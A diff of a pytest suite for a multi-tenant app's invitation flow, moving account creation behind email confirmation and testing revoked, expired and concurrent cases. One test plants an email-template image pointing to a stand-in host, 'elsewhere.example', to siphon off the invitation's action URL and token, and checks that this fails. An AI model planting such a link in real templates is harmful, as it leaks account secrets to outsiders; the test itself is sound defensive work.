@@ -101,16 +101,72 @@ def test_a_user_who_is_invited_becomes_a_member(app, db, post, team):
     assert told(team.call("POST", team.path("/" + made["id"] + "/resend")), 409)
 
 
-def test_who_is_invited_registers_without_another_mail(app, db, post, team):
+def confirm(app, post, email, password=PASSWORD):
+    page, token = post.link(app, email)
+    assert page == "verify-email"
+    return ask(app, "/users/verify", token=token, password=password)
+
+
+def test_who_registers_with_an_invitation_is_a_member_when_the_address_is_confirmed(app, db, post, team):
     email = address("ben")
     made, token = team.invite(email, "viewer")
-    before = len(post.mails_to(app, email))
-    user = told(register_with(app, email.upper(), token, name="Ben"), 201)["user"]
+    told(register_with(app, email.upper(), token, name="Ben"), 202)
+    assert db.value("SELECT count(*) FROM public.users WHERE lower(email) = %s", [email]) == 0
+    assert told(team.call("GET", team.path("/" + made["id"])), 200)["status"] == "pending"
+    answer = told(confirm(app, post, email.upper()), 200)
+    user = answer["user"]
     assert (user["email"], user["name"], user["tenant_id"]) == (email.upper(), "Ben", team.tenant)
+    assert answer["invitation"] == {"accepted": True, "tenant_id": team.tenant, "role": "viewer"}
     assert team.role_of(user["id"]) == [("viewer",)]
-    assert len(post.mails_to(app, email)) == before and post.mails_to(app, email.upper()) == []
     assert told(team.call("GET", team.path("/" + made["id"])), 200)["acceptedBy"] == user["id"]
     assert told(register_with(app, email, token), 410)
+
+
+def test_the_secret_of_an_invitation_says_nothing_about_the_address(app, db, post, team):
+    """A tenant's own words may send it to anybody, who then has nothing of the account but what they typed."""
+    leak = "https://elsewhere.example/?u={{{actionUrl}}}"
+    told(team.call("PUT", f"/api/tenants/{team.tenant}/email-templates/invitation", {
+        "subject": "Hello", "text": "See {{actionUrl}}", "html": f'<a href="{{{{actionUrl}}}}">See</a><img src="{leak}">'}), 200)
+    email = address("vie")
+    _, token = team.invite(email)
+    told(register_with(app, email, token), 202)
+    assert ask(app, "/users/verify", token=token, password=PASSWORD).status == 400
+    assert ask(app, "/login", email=email, password=PASSWORD).status == 401
+    assert db.value("SELECT count(*) FROM public.users WHERE email = %s", [email]) == 0
+    mail = post.mails_to(app, email)[-1]
+    assert "verify-email" in mail.part("html") and "elsewhere.example" not in mail.part("html")
+    # who has the mailbox does not know that password, and registers with their own
+    assert confirm(app, post, email, "Their-Own-Password-1").status == 400
+    told(ask(app, "/users/register", email=email, password="Their-Own-Password-1"), 202)
+    answer = told(confirm(app, post, email, "Their-Own-Password-1"), 200)
+    assert "invitation" not in answer and answer["user"]["tenant_id"] is None
+    assert ask(app, "/login", email=email, password=PASSWORD).status == 401
+
+
+@pytest.mark.parametrize("change, said", [
+    ("UPDATE tenantd.invitations SET revoked_at = now() WHERE id = %(id)s", "revoked"),
+    ("UPDATE tenantd.invitations SET expires_at = now() WHERE id = %(id)s", "expired"),
+    ("UPDATE tenantd.invitations SET digest = encode(sha256(id::bytea), 'hex') WHERE id = %(id)s", "sent again"),
+    ("UPDATE public.tenants SET status = 'suspended' WHERE id = %(tenant)s", "suspended"),
+], ids=["revoked", "expired", "sent again", "suspended"])
+def test_what_became_of_the_invitation_meanwhile_keeps_nobody_from_their_account(app, db, post, team, change, said):
+    email = address("mia")
+    made, token = team.invite(email)
+    told(register_with(app, email, token), 202)
+    told(ask(app, "/users/register/resend", email=email), 202)
+    db.sql(change.replace("%(id)s", "%s").replace("%(tenant)s", "%s"), [team.tenant if "tenants" in change else made["id"]])
+    answer = told(confirm(app, post, email), 200)
+    assert answer["invitation"]["accepted"] is False and said in answer["invitation"]["detail"], answer
+    assert set(answer["invitation"]) == {"accepted", "detail"} and answer["user"]["tenant_id"] is None
+    assert team.role_of(answer["user"]["id"]) == []
+
+
+def test_a_mail_that_is_sent_again_still_has_the_invitation(app, post, team):
+    email = address("noa")
+    _, token = team.invite(email)
+    told(register_with(app, email, token), 202)
+    told(ask(app, "/users/register/resend", email=email), 202)
+    assert told(confirm(app, post, email), 200)["invitation"]["accepted"] is True
 
 
 def test_the_mail_says_what_it_is_about_in_the_tenants_own_words(app, post, team):
@@ -146,13 +202,16 @@ def test_two_acceptances_at_once_are_one(app, db, post, team):
     assert db.value("SELECT count(*) FROM tenantd.events WHERE kind = 'invitation.accepted' AND tenant_id = %s", [team.tenant]) == 1
 
 
-def test_two_registrations_at_once_by_one_invitation_make_one_user(app, db, team):
+def test_two_registrations_by_one_invitation_make_one_user(app, db, post, team):
     email = address("eli")
     _, token = team.invite(email)
-    answers = at_once(*[lambda: register_with(app, email, token)] * 4)
-    assert sorted(a.status for a in answers)[0] == 201 and {a.status for a in answers} <= {201, 409, 410}
+    links = []
+    for _ in range(2):
+        told(register_with(app, email, token), 202)
+        links.append(post.link(app, email)[1])
+    answers = at_once(*[lambda t=t: ask(app, "/users/verify", token=t, password=PASSWORD) for t in links * 2])
+    assert sorted(a.status for a in answers) == [200, 400, 400, 400], [a.body for a in answers]
     assert db.value("SELECT count(*) FROM public.users WHERE email = %s", [email]) == 1
-    assert [a.status for a in answers].count(201) == 1
 
 
 def test_a_member_stays_what_they_are(app, db, post, team):
@@ -273,7 +332,8 @@ def test_whom_nobody_needs_to_invite(app, db, post, team):
     told(accept(app, user, team.secret(email)), 200)
     assert "member" in told(team.call("POST", team.path(), {"email": email, "role": "admin"}), 409)["detail"]
     taken = Team(app, post)
-    assert told(register_with(app, email, taken.invite(email)[1]), 409), "who has an account signs in"
+    told(register_with(app, email, taken.invite(email)[1]), 202)
+    assert "tried to register" in post.mails_to(app, email)[-1].part("plain"), "who has an account signs in"
 
 
 def test_one_that_has_expired_makes_room_for_another(app, db, team):
@@ -329,7 +389,8 @@ def test_no_secret_of_an_invitation_is_anywhere(app, db, post, team):
     first = team.secret(email)
     told(team.call("POST", team.path("/" + made["id"] + "/resend")), 200)
     second = team.secret(email)
-    told(register_with(app, email, second), 201)
+    told(register_with(app, email, second), 202)
+    told(confirm(app, post, email), 200)
     held, log = dump(db), app.log_text()
     for secret in (first, second):
         assert secret[4:] not in held and secret[4:] not in log
